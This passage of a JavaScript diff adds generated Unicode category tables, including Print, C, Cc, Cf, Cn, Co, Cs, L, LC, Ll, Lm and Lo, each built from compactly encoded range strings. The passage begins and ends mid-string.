B-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOB-lOC-lOG-lOzoeCBBBCBBBCBBBCBBBCBBBCBl8kCBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBTCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBnECBBBCBBBCBBBCBBBCBBBCBBBCBBDCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBKCBBBCBBBnglCBCBBBCBBBCBBBCBBBCBBECBBBvyyCDCBBBCBBBgDCCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBn0yCB90yCB10yCBh0yCBn0yCCjxyCBzyyCBpxyCBg6BBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBB-CBl0yCBvjlCBCBBBCBBBt2yCBCBBBCBBBCBBBCBBBCBBBCBBBCBBBCBBBhkzCZCBB9a-5Bd-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCB-8rCm6TCBB7gBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCH-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BmlBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvChDwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCBwCFvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvCBvC1DuCBuCBuCBuCBuCBuCBuCBuCBuCBuCBuCCuCBuCBuCBuCBuCBuCBuCBuCBuCBuCBuCBuCBuCBuCBuCCuCBuCBuCBuCBuCBuCBuCCuCBuCCtCBtCBtCBtCBtCBtCBtCBtCBtCBtCBtCCtCBtCBtCBtCBtCBtCBtCBtCBtCBtCBtCBtCBtCBtCBtCCtCBtCBtCBtCBtCBtCBtCCtCBtCk2BgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEBgEO-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-DB-D+CgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCL-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-B74CgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BhrVgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCBgCB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BB-BhB2BB2BB2BB2BB2BB2BB2BB2BB2BB2BB2BB2BB2BB2BB2BB2BB2BB2BB2BB2BB2BB2BB2BB2BB2BD1BB1BB1BB1BB1BB1BB1BB1BB1BB1BB1BB1BB1BB1BB1BB1BB1BB1BB1BB1BB1BB1BB1BB1BB1BtxekCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBkCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjCBjC");
+    return this._CASE_ORBIT;
+  }
+  static _Print = null;
+  static get Print() {
+    if (!this._Print) this._Print = new UnicodeRangeTable(decodeRanges("hB9CBjBLBCpWBDFBFGBCCCBSBCsMBClBBDxBBDCBC2BBJaBFFBSVBC-FBCvBBD6BBDkDBP6BBDwBBDOBCbBDCCBJBGfBIqCBCgFBCHBDBBDVBCGBCEEBCBDIBDBBDDBJFFBCCBDBDYBDCBCFBFBBDVBCGBCBBCBBCBBDCCBDBFBBDCBEIIBCBCIIBPBLCBCIBCCBCVBCGBCBBCEBDJBCCBCCBDQQBCBDLBIGBCCBCHBDBBDVBCGBCBBCEBDIBDBBDCBICBFBBCEBDRBLBBCFBECBCDBEBBCCCBEEBEEBBBELBFEBECBCDBDHHPUBGMBCCBCWBCPBDIBCCBCDBIBBCCBCBBDDBDJBIVBCCBCWBCJBCEBDIBCCBCDBIBBGCBCDBDJBCCBNMBCCBCyBBCCBCFBFPBDZBCCBCRBEXBCIBCDDBFBEFFBEBCCCBGBHJBDCBN5BBFcBmBBBCCCBDBCXBCCCBVBDEBCCCBFBCJBDDBhBnCBCjBBFmBBCjBBCOBCMBmBlGBCGGD4LBCDBDGBCCCBCBDoBBCDBDgBBCDBDGBCCCBCBDOBC4BBCDBDiCBDfBEZBH1CBDFBD-TBCbBE4CBIVBKXBKTBNMBCCBCBBN9CBDJBHJBHNBCKBH4CBIqBBGlCBLeBCLBFLBFEEBoBBDEBMrBBFZBHKBE9BBDgCBCcBDKBHJBHNBDtBBDLBVsCBClFBJ7BBEOBE9BBGqBBDKBJqBBG1QBDFBDlBBDFBDHBCGCBdBD0BBCOBCNBDFBCSBDCBCIBSXBJuBBSBBDaBCMBEhBBPgBBQrEBF5UBXKBWz4BBD9LBGsBBCGGD3BBIBBPXBKGBCGBCGBCGBCGBCGBCGBCGBC9DBjBZBC4CBN1GBbPBC+BBC1CBDmDBGqBBC9CBC1CBKvBBCszcBE2BBK7KBV3FBJ8GBV7BBEJBH3BBJlCBJLBHzDBMdBEtCBCKBFgBBC2BBKNBDJBDmDBZbBLFBDFBDFBKGBCGBC7BBF9DBDJBHj9KBNWBFwBBloItLBDpDBnBGBNEBGZBCEBCCCBCCBCCBoUBhBpBBHyBBCSBCDBFEBCmEBF9FBEFBDFBDFBDCBEGBCGBOBBDLBCZBCSBCBBCOBDNBjB6DBGCBFsBBE3CBCMBEwBwBBsBBjEcBEwBBQbBFjBBKdBGqBBGdBCkBBFNBrB9EBDJBHjBBFjBBFnBBJzBBMLBCOBCGBCBBCKBCOBCGBCBBEzBBN2JBKVBLHBZFBCpBBCIBmCFBDCCBqBBCBBEDDBVBCnCBJIBxBSBCBBGgBBEaBGaBnB3BBFTBDxBBCBBGHBCCBCcBDCBFJBIIBI-BBhBmBBFLBK1BBEcBDaBGZBIDBNGBxCoCB4ByBBOyBBItBBJJBHlBBEcBJBBxGeBCpBBCCBDBBRFBJIBiBtBBJpBBXZBnBbBVWBKtCBFjBBK9BBCEBOYBIJBH0BBCRBJmBBK-CBCTBMRBCuBB-BGBCCCBCBCOBCKBH6BBGJBHDBCHBDBBDVBCGBCBBCEBCJBDBBDCBDHHGGBDGBEEBMJBCDDClBBCJBCDDCDBCJBCBBJBBe7CBCEBfnCBJJBnF1BBDlBBjBkCBMJBHMBU5BBHJBHTBdaBDOBFWB6F7BBlDyCBNHBDDDBGBCBBCdBCBBDLBKJBnCHBDtBBDKBcnCBJyCBOoCBIJB3CHB5ChBBPJBHIBCsBBCNBLcBEfBDVBCNBqCGBCBBCrBBECCBCCBHBJJBHFBCBBCkBBCBBCFBIJBHrBBFJB3HYBIQBCoBBEcB2CQQBwBBO6cBnDuDBCEBMjGBtyCiDBOvhBBRVBL68DBGmSB61G5BBn2B4RBIeBCJBFwCBCJBHdBDFBLlCBLJBCGBCUBGSBxN5BBnG6CBGYBDYBtBqCBF4BBIQBhCEBMGBK1mHBqBfBiDyDB+vIDBCGBCBBCiJBQeeBBBDPPBCBJrMBloCqDBGMBEIBIJBDDBh7D8HBEzNBHWBQQBQtBBDWBKzDB9B1HBLmBBDpCBJvDBWlCB7DTBNTBN2CBKYBoE0CBCmCBCBBDDDBDDBCBCLBCCCBFBCgCBCDBDHBCGBCbBCDBCEBCEEBFBCzKBDjJBD9VBQEBCOBxiBeBHFB2GGBCQBDGBCBBCEBG9BBiBxDxDBrBBENBDJBFBBhKeBS5BBGxOxOBoBB3GqBBFhGhGBdBCVBJBBhHGBCDBCBBCOBCkGBDPBqBrCBFJBFBByYjCBtC8BBjGDBCaBCBBCDDCJBCDBCCCHFFCECBBBCBBCDDCICBCCDDBCGBCDBCDBCCCBIBCQBGCBCEBCQB1BBBvIrBBFjDBNOBDOBCOBCkBBLtFB5BcBOrBBFIBIBBPFB7E4eBEQBEMBE5GBHLBFQQBKBF3BBJJBHnBBJdBDLBFBBPIBoB3KBJNBDMBEKBE4BBCFFBOBDLBFJBIyEBCmDBmgB-2pBBhB9oEBDt0FBDwpHBQtTBjtC9QBjvBq6EBGppIBnkzVvHB", false));
+    return this._Print;
+  }
+  static CATEGORIES = new LazyMap({
+    C: () => new UnicodeRangeTable(decodeRanges("AfBgDgBBOrWrWBHHBCBICCVuMuMnBBBzBBBE4B4BBGBcDBHQBXhGhGxBBB8BBBmDNB8BBByBBBQddBCCMEBhBGBsCiFiFJBBDBBXIICCBFBBKBBDBBFHBCDBDGGBaaBEEHDBDBBXIIDGDBCCGDBDBBECBCGBFCCBFBSJBEKKEXXIDDGBBLIEBCCBNBFBBNGBIEEJBBDBBXIIDGGBKKBDDBEEBFBEDBDGGBTTBIBDHHBBBEFFBBBDCCDCBDCBECBNDBGCBEFFBCCBEBCNBWEBOEEYRRBKKEFFBFBDEEDBBFBBLGBXEEYLLGBBKEEFGBDEBEFFBLLELBOEE0BEEHDBRBBbEETCBZKKCBBICBCDBHCCJFBLBBELB7BDBekBBDCCGZZCYYBGGCIILBBFfBpClBlBBCBoBlBlBQOOBjBBnGCCBDBCBB6LFFBIICFFBqBqBFBBiBFFBIICFFBQQ6BFFBkCkCBhBhBBBBbFB3CBBHBB+UCB6CGBXIBZIBVLBOEEDLB-CBBLFBLFBPMMBEB6CGBsBEBnCJBgBNNBCBNDBCCBrBBBGKBtBDBbFBMCB-BBBiCeeBMMBEBLFBPBBvBBBNTBuCnFnFBGB9BCBQCB-BEBsBBBMHBsBEB3QBBHBBnBBBHBBJGCgBBB2BQQPBBHUUBEEKMMBDBbEByBPBDBBcOOBBBjBNBiBOBtEDB7UVBMUB14BBB-LEBuBCCBDBCBB5BGBDNBZIBI4BI-DhBBb6C6CBKB3GZBxC3C3CBoDoDBDBsB-C-C3CIBxBuzcuzcBBB4BIB9KTB5FHB+GTB9BCBLFB5BHBnCHBNFB1DKBfCBvCMMBCBiB4B4BBHBPBBLBBoDXBdJBHBBHBBHIBIII9BDB-DBBLFBl9KLBYDByBjoIBvLBBrDlBBILBGEBbGGCGDrUfBrBFB0BUUFDBGoEoEBCB-FCBHBBHBBHBBECBIIIBLBDBBNbbUDDQBBPhBB8DEBEDBuBCB5COOBBBCuBBvBhEBeCByBOBdDBlBIBfEBsBEBfmBmBBCBPpBB-EBBLFBlBDBlBDBpBHB1BKBNQQIDDMQQIDDBBB1BLB4JIBXJBJXBHrBrBKkCBHBBCtBtBDCBCBBYpCpCBGBKvBBUDDBDBiBCBcEBclBB5BDBVBBzBDDBDBJEEeBBEDBLGBKGBhCfBoBDBNIB3BCBeBBcEBbGBFLBIvCBqC2BB0BMB0BGBvBHBLFBnBCBeHBDvGBgBrBrBEBBDPBHHBKgBBvBHBrBVBblBBdTBYIBvCDBlBIB-BGGBLBaGBLFB2BTTBGBoBIBhDVVBJBTwBwBB8BBICCFQQMFB8BEBLFBFJJBDDBXXIDDGLLBDDBEEBCCBEBCEBIBBICBGKBLCCBCCnBLLCBBCFFLDDBGBDcB9CGGBcBpCHBLlFB3BBBnBhBBmCKBLFBOSB7BFBLFBVbBcBBQDBY4FB9BjDB0CLBJBBCBBJDDfDDBNNBHBLlCBJBBvBBBMaBpCHB0CMBqCGBL1CBJ3CBjBNBLFBKuBuBPJBeCBhBBBXPPBnCBIDDtBCBCDDKHBLFBHDDmBDDHGBLFBtBDBL1HBaGBSqBqBBBBe0CBCOBzBMB8clDBwDGGBJBlGryCBkDMBxhBPBXJB88DEBoS41GB7Bl2BB6RGBgBLLBCByCLLBEBfBBHJBnCJBLIIWEBUvNB7BlGB8CEBaBBarBBsCDB6BGBS-BBGKBIIB3mHoBBhBgDB0D8vIBFIIDkJkJBNBCcBEBBCNBFHBtMjoCBsDEBOCBKGBLBBF-6DB+HCB1NFBYOBSOBvBBBYIB1D7BB3HJBoBBBrCHBxDUBnC5DBVLBVLB4CIBamEB2CoCoCDBBCBBDBBFNNCIIiCFFBJJIddFGGCCBI1K1KBlJlJB-V-VBNBGQQBuiBBgBFBH0GBISSBIIDGGBDB-BgBBCvDBuBCBPBBLDBD-JBgBQB7BEBCvOBrB1GBsBDBC-FBgBXXBGBD-GBIFFDQQmGBBRoBBtCDBLDBDwYBlCrCB+BhGBFccDCCBCCLFFCCCBEBCDBCECEDDCBBCICDCCBFFIKFCLLSEBEGGSzBBDtIBtBDBlDLBQBBQQQmBJBvF3BBeMBtBDBKGBDNBH5EB6eCBSCBOCB7GFBNDBCOBNDB5BHBLFBpBHBfBBNDBDNBKmBB5KHBPBBOCBMCB6BCCBCBRBBNDBLGB0EoDoDBjgBBh3pBfB-oEBBv0FBBypHOBvThtCB-QhvBBs6EEBrpIlkzVBxHvw-FB", false)),
+    Cc: () => new UnicodeRangeTable(decodeRanges("AfgDgB", true)),
+    Cf: () => new UnicodeRangeTable(decodeRanges("tFzqBzqBBEBXhGhGyBhMhMBxCxCs5D9-B9-BBDBbEByBEBCJBw03B6H6HBBBimEQQj7IPBhjiBDBwmFHBn0rYffB+CB", false)),
+    Cn: () => new UnicodeRangeTable(decodeRanges("4bBBHDBICCVuMuMnBBBzBBBE4B4BBGBcDBHKBvI9B9BBmDmDBMB8BBByBBBQddBCCMEBjBEBuHJJBDDBXXICCBBBFBBKBBDBBFHBCDBDGGBaaBEEHDBDBBXIIDGDBCCGDBDBBECBCGBFCCBFBSJBEKKEXXIDDGBBLIEBCCBNBFBBNGBIEEJBBDBBXIIDGGBKKBDDBEEBFBEDBDGGBTTBIBDHHBBBEFFBBBDCCDCBDCBECBNDBGCBEFFBCCBEBCNBWEBOEEYRRBKKEFFBFBDEEDBBFBBLGBXEEYLLGBBKEEFGBDEBEFFBLLELBOEE0BEEHDBRBBbEETCBZKKCBBICBCDBHCCJFBLBBELB7BDBekBBDCCGZZCYYBGGCIILBBFfBpClBlBBCBoBlBlBQOOBjBBnGCCBDBCBB6LFFBIICFFBqBqBFBBiBFFBIICFFBQQ6BFFBkCkCBhBhBBBBbFB3CBBHBB+UCB6CGBXIBZIBVLBOEEDLB-CBBLFBLFBbFB6CGBsBEBnCJBgBNNBCBNDBCCBrBBBGKBtBDBbFBMCB-BBBiCeeBMMBEBLFBPBBvBBBNTBuCnFnFBGB9BCBQCB-BEBsBBBMHBsBEB3QBBHBBnBBBHBBJGCgBBB2BQQPBBHUUBEEKmDmDNBBcOOBBBjBNBiBOBtEDB7UVBMUB14BBB-LEBuBCCBDBCBB5BGBDNBZIBI4BI-DhBBb6C6CBKB3GZBxC3C3CBoDoDBDBsB-C-C3CIBxBuzcuzcBBB4BIB9KTB5FHB+GTB9BCBLFB5BHBnCHBNFB1DKBfCBvCMMBCBiB4B4BBHBPBBLBBoDXBdJBHBBHBBHIBIII9BDB-DBBLFBl9KLBYDByBDBvzIBBrDlBBILBGEBbGGCGDrUfBrBFB0BUUFDBGoEoEBCC-FCBHBBHBBHBBECBIIIBIBGBBNbbUDDQBBPhBB8DEBEDBuBCB5COOBBBCuBBvBhEBeCByBOBdDBlBIBfEBsBEBfmBmBBCBPpBB-EBBLFBlBDBlBDBpBHB1BKBNQQIDDMQQIDDBBB1BLB4JIBXJBJXBHrBrBKkCBHBBCtBtBDCBCBBYpCpCBGBKvBBUDDBDBiBCBcEBclBB5BDBVBBzBDDBDBJEEeBBEDBLGBKGBhCfBoBDBNIB3BCBeBBcEBbGBFLBIvCBqC2BB0BMB0BGBvBHBLFBnBCBeHBDvGBgBrBrBEBBDPBHHBKgBBvBHBrBVBblBBdTBYIBvCDBlBIBlCJBCBBaGBLFB2BTTBGBoBIBhDVVBJBTwBwBB8BBICCFQQMFB8BEBLFBFJJBDDBXXIDDGLLBDDBEEBCCBEBCEBIBBICBGKBLCCBCCnBLLCBBCFFLDDBGBDcB9CGGBcBpCHBLlFB3BBBnBhBBmCKBLFBOSB7BFBLFBVbBcBBQDBY4FB9BjDB0CLBJBBCBBJDDfDDBNNBHBLlCBJBBvBBBMaBpCHB0CMBqCGBL1CBJ3CBjBNBLFBKuBuBPJBeCBhBBBXPPBnCBIDDtBCBCDDKHBLFBHDDmBDDHGBLFBtBDBL1HBaGBSqBqBBBBe0CBCOBzBMB8clDBwDGGBJBlGryCBkDMB3iBJB88DEBoS41GB7Bl2BB6RGBgBLLBCByCLLBEBfBBHJBnCJBLIIWEBUvNB7BlGB8CEBaBBarBBsCDB6BGBS-BBGKBIIB3mHoBBhBgDB0D8vIBFIIDkJkJBNBCcBEBBCNBFHBtMjoCBsDEBOCBKGBLBBJ76DB+HCB1NFBYOBSOBvBBBYIB1D7BB3HJBoBBBjGUBnC5DBVLBVLB4CIBamEB2CoCoCDBBCBBDBBFNNCIIiCFFBJJIddFGGCCBI1K1KBlJlJB-V-VBNBGQQBuiBBgBFBH0GBISSBIIDGGBDB-BgBBCvDBuBCBPBBLDBD-JBgBQB7BEBCvOBrB1GBsBDBC-FBgBXXBGBD-GBIFFDQQmGBBRoBBtCDBLDBDwYBlCrCB+BhGBFccDCCBCCLFFCCCBEBCDBCECEDDCBBCICDCCBFFIKFCLLSEBEGGSzBBDtIBtBDBlDLBQBBQQQmBJBvF3BBeMBtBDBKGBDNBH5EB6eCBSCBOCB7GFBNDBCOBNDB5BHBLFBpBHBfBBNDBDNBKmBB5KHBPBBOCBMCB6BCCBCBRBBNDBLGB0EoDoDBjgBBh3pBfB-oEBBv0FBBypHOBvThtCB-QhvBBs6EEBrpIm8yVBCdBhD-DBxHvw-BB---BBB---BBB", false)),
+    Co: () => new UnicodeRangeTable(decodeRanges("gg4B-nGh4hc9--BD9--B", true)),
+    Cs: () => new UnicodeRangeTable(decodeRanges("gg2B--B", true)),
+    L: () => new UnicodeRangeTable(decodeRanges("hCZBHZBwBLLFGGBVBCeBCpOBFLBPEBICCiEEBCBBDDBCHHCCBCCCBSBCyCBCqEBJlFBClBBDHHBnBBoCaBFDBuBqBBkBBBCiDBCQQBIIBLLBBBDRRCdBe4CBMZZBfBKBBFGGBUBFKKEYYBXBIKBGXBCGBRpBB7B1BBETTIJBQPBFHBDBBDVBCGBCEEBCBERROBBCCBPBBLJJBEBFBBDVBCGBCBBCBBCBBgBDBCUUBBBRIBCCBCVBCGBCBBCEBETTQBBYMMBGBDBBDVBCGBCBBCEBEffBCCBBBQSSCFBECBCDBEBBCCCBEEBEEBBBELBX1B1BBGBCCBCWBCPBEbbBBBCBBDBBfFFBGBCCBCWBCJBCEBEffBBBCBBQBBSIBCCBCoBBDRRGCBJCBZFBGRBEXBCIBCDDBFB7BvBBCBBNGB7BBBCCCBDBCXBCCCBIBCBBKDDBDBCWWBCBhBgCgCBGBCjBBcEB0DqBBVRRBEBFDBEEEBIIBBBFMBNSSBkBBCGGDqBBCsKBCDBDGBCCCBCBDoBBCDBDgBBCDBDGBCCCBCBDOBC4BBCDBDiCBmBPBR1CBDFBErTBDQBCZBGqCBHHBIRBOSBPRBPMBCCBQzBBkBFFkC4CBIEBDhBBCGGBkCBLeByBdBDEBMrBBFZB3BWBK0BBzC+C+CBtBBSHB3BdBOBBLrBBbjBBqBCBLjBBDKBGqBBDCBqBDBCFBCBBEGGB+FBhC1IBDFBDlBBDFBDHBCGCBdBD0BBCGBCEEBBBCGBEDBDFBFMBGCBCGB1DOORMBmDFFDJBCEEBDBHGCBCBCKBDDBGEBF1B1BB8zC8zCBjHBHDBEBBNlBBCGGD3BBIRRBVBKGBCGBCGBCGBCGBCGBCGBCGBxC2O2OBrBrBBDBGBBF1CBHCBC5CBCDBGqBBC9CBSfBxBPBhQ-tGBhCs0VBkCtBBDsIBEPBLBBVuBBReBDlCByBIBDmDBDxCBVQBCCBCDBCWBezBBPxBB-BFBECCBMMBaBLWBacBIuBBdRRBDBCJBLEBCoBBYCBCHBVWBEEEBwBBCEEBDDBDBDCCZCBDKBICBNFBDFBDFBKGBCGBCqBBCNBHyDBej9KBNWBFwBBloItLBDpDBnBGBNEBGCCBIBCMBCEBCCCBCCBCCBqDBiBqLBT-BBD1BBpBLB1DEBCmEBlBZBHZBM4CBEFBDFBDFBDCBkBLBCZBCSBCBBCOBDNBjB6DBmMcBEwBBwBfBOTBCHBHlBBLdBDjBBFHBxB9EBTjBBFjBBFnBBJzBBNKBCOBCGBCBBCKBCOBCGBCBBEzBBN2JBKVBLHBZFBCpBBCIBmCFBDCCBqBBCBBEDDBVBLWBKeBiCSBCBBLVBLZBHZBnB3BBHBBhCQQBCBCCBCcBrBcBEcBkBHBCbBc1BBLVBLSBORBvDoCB4ByBBOyBBOjBBnBbBKWB7HpBBHBBRFB5BcBLJJBUBrBRBvBUBcWBN0BB6BBBDOOBrBBhBYBbjBBeDDJiBBENNBuBBPDBWCCkBRBCYBUBBgCGBCCCBCBCOBCJBIuBBnBHBDBBDVBCGBCBBCEBETTNEBfJBCDDClBBCaaCtBtBBzBBTDBVCBfvBBVBBC5F5FBtBBqBDBlBvBBV8B8BBpBBOoCoCBZBmBGB6FrBB1D-BBgBHBDDDBGBCBBCXBQCC-CHBDmBBRCCdLLBmBBIWWMtBBUTTBnCBoGgBBgBIBCkBBSyByBBcBxDGBCBBClBBWaaBEBCBBCfBPYYBqBBlISBQCCBLBChBB9DwCwCB4cBnHjGBtyCgDBQvhBBSFBa68DBGmSB61GdBj3B4RBIeBSuCBSdBTvBBRDBgBUBGSBxNsBB0G-BBhBYBDYBtBqCBGjCjCBLBhCBBCPPBNNB0mHBqBfBiDyDB+vIDBCGBCBBCiJBQeeBBBDPPBCBJrMBloCqDBGMBEIBIJBn7F0CBCmCBCBBDDDBDDBCBCLBCCCBFBCgCBCDBDHBCGBCbBCDBCEBCEEBFBCzKBDYBCYBCeBCYBCeBCYBCeBCYBCeBCYBCHB15BeBHFBmI9BBzEsBBLGBRiKiKBcBTrBBlPbBlHdBDwGwGBdBCCBCBBCGBDEBKBBhHGBCDBCBBCOBCkGB8BjCBI1lB1lBBCBCaBCBBCDDCJBCDBCCCHFFCECBBBCBBCDDCICBCCDDBCGBCDBCDBCCCBIBCQBGCBCEBCQBlqE-2pBBhB9oEBDt0FBDwpHBQtTBjtC9QBjvBq6EBGppIB", false)),
+    LC: () => new UnicodeRangeTable(decodeRanges("hCZBHZB7BLLBVBCeBCiGBCDBFvGBDZBhGDBDBBECBCHHCCBCCCBSBCyCBCqEBJlFBClBBKoBB44ClBBCGGDqBBDCBhV1CBDFBjkCKBGqBBDCBhCrBBgCMBChBBmD1IBDFBDlBBDFBDHBCGCBdBD0BBCGBCEEBBBCGBEDBDFBFMBGCBCGBmIFFDJBCEEBDBHGCBCBCFBFDDBCBGEBF1B1BB8zC8zCB6DBDmDBHDBEBBNlBBCGGzoetBBTbBnEtCBCWBEDBCsCBZBBE2Z2ZBpBBGIBIvCBh6TGBNEBqgBZBHZBmlBvCBhDjBBFjBB1DKBCOBCGBCBBCKBCOBCGBCBBk2ByBBOyBB+CVBLVB74C-BBhrV-BBhBYBDYBtpZ0CBCmCBCBBDDDBDDBCBCLBCCCBFBCgCBCDBDHBCGBCbBCDBCEBCEEBFBCzKBDYBCYBCeBCYBCeBCYBCeBCYBCeBCYBCHB15BJBCTBHFB2uCjCB", false)),
+    Ll: () => new UnicodeRangeTable(decodeRanges("hDZB7BqBqBBWBCHBC2BCBQCBuBCDECBBBDCCDEEBFFDEEBBBDDDCCCDCCBCCDEECDDBDDBBBHGDCOCBSCBDDCEEC4BCBFBDDDBCCFICBjCBDZBiGCCEEEBBBTccBhBBCBBECBCWCBDBCGDB0B0BBuBBCgBCK0BCDMCBgDCxBoBBo6CqBBDCB5XFBjkCIBC2D2DBqBBgCMBChBBnD0ECBHBCgDCBHBJFBLHBJHBJFBLHBJHBJNBDHBJHBJHBJEBCBBHEEBBBCBBJDBDBBJHBLCBCBBzIEEBEEcKFDBBJDBF2B2Bs1CvBBCEEBGCFCCBCCBEBGiDCBIICFFNlBBCGG0oesBCUaCoEMCBBBC+BCBGBCCCDICFCCDCCBBBCSCGGGCMCFCCDOCbEE2ZqBBGIBIvCBh6TGBNEBqhBZBumBnBBpEjBB8EKBCOBCGBCBBk4ByBB+DVB75CfBhsVfB8BYBnqZZBbGBCRBbZBbDBCCCBFBCKBbZBbZBbZBbZBbZBbZBbZBbZBbbBdYBCFBbYBCFBbYBCFBbYBCFBbYBCFBC15B15BBIBCTBHFB4vChBB", false)),
+    Lm: () => new UnicodeRangeTable(decodeRanges("wVRBFLBPEBICCmEGG-OnHnHlFBBuIBBFgBgBKEEhFoFoF1mBgEgE2R72B72BsDkTkTxOFBvF+BBOjBjBBjBByVOORMBg-CBByHgGgG2OsBsBBDBGiDiDB+C+CBBB34bjnBjnBBEBvIzDzDdBB6DIBxCYYpDDBEBB2OXXqEtDtDWBBoDDBKngVngVuBBBh-BFBCpBBCIB0sBhBhB2K04D04DnrTDB9PCBpBBBnRMBhCBBCPPB9-P9-PBCBCGBCBByhM9BBqGGBud0Q0QsSAB", false)),
+    Lo: () => new UnicodeRangeTable(decodeRanges("qFQQhIFFBCBxGBB7ZaBFDBuBfBCJBkBBBCiDBCZZBLLBBBDRRCdBe4CBMZZBfBWVBrBYBIKBGXBCGBRoBB8B1BBETTIJBROBFHBDBBDVBCGBCEEBCBERROBBCCBPBBLJJBEBFBBDVBCGBCBBCBBCBBgBDBCUUBBBRIBCCBCVBCGBCBBCEBETTQBBYMMBGBDBBDVBCGBCBBCEBEffBCCBBBQSSCFBECBCDBEBBCCCBEEBEEBBBELBX1B1BBGBCCBCWBCPBEbbBBBCBBDBBfFFBGBCCBCWBCJBCEBEffBBBCBBQBBSIBCCBCoBBDRRGCBJCBZFBGRBEXBCIBCDDBFB7BvBBCBBNFB8BBBCCCBDBCXBCCCBIBCBBKDDBDBYDBhBgCgCBGBCjBBcEB0DqBBVRRBEBFDBEEEBIIBBBFMBNyDyDBnKBCDBDGBCCCBCBDoBBCDBDgBBCDBDGBCCCBCBDOBC4BBCDBDiCBmBPByDrTBDQBCZBGqCBHHBIRBOSBPRBPMBCCBQzBBpBkCkCBhBBC0BBIEBDhBBCGGBkCBLeByBdBDEBMrBBFZB3BWBK0BBxFuBBSHB3BdBOBBLrBBbjBBqBCBLdByDDBCFBCBBE7hB7hBBCB4-C3BBZWBKGBCGBCGBCGBCGBCGBCGBCGBoR2B2BF1CBJCCB4CBFGGBpBBC9CBSfBxBPBhQ-tGBhC0wUBC2jBBkCnBBJrIBFPBLBBjCyByBBkCBqFoDoDEGBCCBCDBCWBezBBPxBB-BFBECCBMMBaBLWBacBIuBBuBEBDIBLEBCoBBYCBCHBVPBCFBEEEBwBBCEEBDDBDBDCCZBBEKBIPPBEBDFBDFBKGBCGByEiBBej9KBNWBFwBBloItLBDpDBkCCCBIBCMBCEBCCCBCCBCCBqDBiBqLBT